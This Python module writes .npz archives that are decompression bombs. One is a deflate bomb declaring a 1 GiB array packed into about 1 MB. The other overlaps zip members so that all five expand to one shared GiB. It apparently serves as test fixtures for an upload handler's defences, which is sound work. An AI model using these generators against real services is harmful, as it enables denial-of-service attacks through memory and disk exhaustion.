"""Files of saved notes (.npz) that unpack to far more than they weigh, written byte by byte so that their zip
directory can say what zipfile itself would never write.

    deflate bomb      the audio's .npy header declares BOMB_SHAPE float32 (a GiB of zeros, deflated to about
                      1 MB); the other four arrays are ordinary
    overlapping bomb  five members, each one's compressed data running on through the next ones' (their local
                      headers quoted in stored deflate blocks), so that all of them unpack one shared GiB
"""

import io
import struct
import zipfile
import zlib

import numpy as np

BOMB_SHAPE = (4194, 64000)  # float32: 1 GiB declared in the audio's .npy header
STORED_BLOCK_MAX = 0xFFFF  # deflate's stored blocks hold at most 65535 bytes
SMALL_ARRAYS = {"names": np.array(["bomb"]), "pitches": np.array([60], dtype=np.int64),
                "families": np.array(["unknown"]), "sources": np.array(["upload"])}


def npy_bytes(array: np.ndarray) -> bytes:
    file = io.BytesIO()
    np.lib.format.write_array(file, array, allow_pickle=False)
    return file.getvalue()


def deflated_zeros_npy(shape) -> tuple[bytes, int, int]:
    """(a raw deflate stream, its CRC-32 and its unpacked size) of a .npy of float32 zeros of `shape`. Each row
    is flushed on its own, so that its compressed bytes are the same every time and are compressed once."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": tuple(shape)})
    header, row, rows = header.getvalue(), bytes(4 * shape[-1]), int(np.prod(shape[:-1]))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = compressor.compress(header) + compressor.flush(zlib.Z_FULL_FLUSH)
    packed_row = compressor.compress(row) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(header)
    for _ in range(rows):
        crc = zlib.crc32(row, crc)
    return start + packed_row * rows + compressor.flush(), crc, len(header) + rows * len(row)


def local_header(name: bytes, method: int, crc: int, packed: int, size: int) -> bytes:
    return struct.pack(zipfile.structFileHeader, zipfile.stringFileHeader, 20, 0, 0, method, 0, 0x21, crc, packed,
                       size, len(name), 0) + name


def write_zip(path, members: list[tuple[bytes, int, int, int, int, int]], end: int):
    """Writes `path`: whatever local headers and data the caller already put in the file, then a central
    directory of `members` (name, method, crc, packed size, unpacked size, local header offset) starting at
    `end`."""
    directory = b"".join(
        struct.pack(zipfile.structCentralDir, zipfile.stringCentralDir, 20, 0, 20, 0, 0, method, 0, 0x21, crc,
                    packed, size, len(name), 0, 0, 0, 0, 0, offset) + name
        for name, method, crc, packed, size, offset in members)
    with open(path, "r+b") as file:
        file.seek(end)
        file.write(directory + struct.pack(zipfile.structEndArchive, zipfile.stringEndArchive, 0, 0, len(members),
                                           len(members), len(directory), end, 0))
        file.truncate()


def write_deflate_bomb(path) -> None:
    stream, crc, size = deflated_zeros_npy(BOMB_SHAPE)
    members, written = [], io.BytesIO()
    small = {f"{field}.npy".encode(): npy_bytes(array) for field, array in SMALL_ARRAYS.items()}
    for name, method, data, crc, size in [(b"audio.npy", zipfile.ZIP_DEFLATED, stream, crc, size),
                                          *((name, zipfile.ZIP_STORED, data, zlib.crc32(data), len(data))
                                            for name, data in small.items())]:
        members.append((name, method, crc, len(data), size, written.tell()))
        written.write(local_header(name, method, crc, len(data), size) + data)
    with open(path, "wb") as file:
        file.write(written.getvalue())
    write_zip(path, members, len(written.getvalue()))


def stored_block_header(length: int) -> bytes:
    """The start of a stored (uncompressed) deflate block of `length` bytes that is not the last: a deflate reader
    passes the next `length` bytes through and reads on."""
    assert length <= STORED_BLOCK_MAX
    return b"\x00" + struct.pack("<HH", length, length ^ 0xFFFF)


def write_overlapping_bomb(path) -> None:
    """The file: each member's local header, followed by a stored block header that quotes the next member's local
    header, and after the last one the shared stream; so each member's data runs to the file's end. The central
    directory lists the audio, the last member and the only one whose data overlaps no other's, first."""
    stream, crc, size = deflated_zeros_npy(BOMB_SHAPE)
    names = [f"{field}.npy".encode() for field in SMALL_ARRAYS] + [b"audio.npy"]
    header_bytes = [zipfile.sizeFileHeader + len(name) for name in names]
    # member i's data: for each later member, a stored block header and its local header; then the stream
    packed = [sum(5 + length for length in header_bytes[i + 1:]) + len(stream) for i in range(len(names))]
    unpacked = [sum(header_bytes[i + 1:]) + size for i in range(len(names))]
    members, body = [], io.BytesIO()
    for i, name in enumerate(names):
        last = i == len(names) - 1
        if i:
            body.write(stored_block_header(header_bytes[i]))
        members.append((name, zipfile.ZIP_DEFLATED, crc if last else 0, packed[i], unpacked[i], body.tell()))
        body.write(local_header(name, zipfile.ZIP_DEFLATED, crc if last else 0, packed[i], unpacked[i]))
    body.write(stream)
    with open(path, "wb") as file:
        file.write(body.getvalue())
    write_zip(path, [members[-1], *members[:-1]], len(body.getvalue()))
